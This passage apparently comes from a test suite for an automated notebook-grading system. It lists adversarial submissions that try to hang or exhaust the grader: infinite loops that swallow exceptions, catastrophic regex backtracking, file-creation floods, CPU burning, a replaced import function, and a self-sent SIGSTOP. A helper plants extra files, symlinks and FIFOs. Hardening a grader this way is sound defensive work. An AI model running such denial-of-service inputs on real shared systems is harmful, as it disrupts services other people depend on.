            "while True:", "    try:", "        while True: pass", "    except BaseException: pass"
        ),
        euler="timeout",
    ),
    "compiled loop": Attack(
        code=euler("import re", "re.match('(a*)*b', 'a' * 60)"), euler="timeout"
    ),
    "endless cell": Attack(before="while True: pass"),
    "sleep": Attack(code=euler("import time", "time.sleep(1e6)"), euler="timeout"),
    "too slow": Attack(code=euler("import time", "time.sleep(4)"), euler="timeout"),
    "endless output": Attack(before="while True: print('x' * 1000)"),
    "deep recursion": Attack(
        code=f"import sys\nsys.setrecursionlimit(10**9)\n{HEAD}\n"
        "    return passive_euler(*locals().values())\n",
        euler="any",
    ),
    "many files": Attack(
        before="i = 0\nwhile True:\n    open(f'/tmp/{i}', 'w').close()\n    i += 1", euler="wrong"
    ),
    "all cores": Attack(before=BURN),
    "replaced import": Attack(before="import builtins\nbuiltins.__import__ = lambda *a, **k: None"),
    "stopped": Attack(
        code=euler("import os, signal", "os.kill(os.getpid(), signal.SIGSTOP)"), euler="timeout"
    ),
}


def hand_in_attack(course, student, attack):
    """Hand an attack in."""
    path = hand_in(
        course,
        student,
        attack.change,
        euler=attack.code,
        exact=EXACT,
        before=attack.before,
        after=attack.after,
    )
    for name, data in attack.files.items():
        target = path.with_name(name) if "/" not in name else path.parent / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    if attack.tree is not None:
        attack.tree(path.parent)
    for name, target in attack.links.items():
        if target:
            path.with_name(name).symlink_to(target)
        else:
            os.mkfifo(path.with_name(name))
    if attack.instead is not None:
        path.write_bytes(attack.instead)
    if attack.rename:
        path.rename(path.with_name(attack.rename))
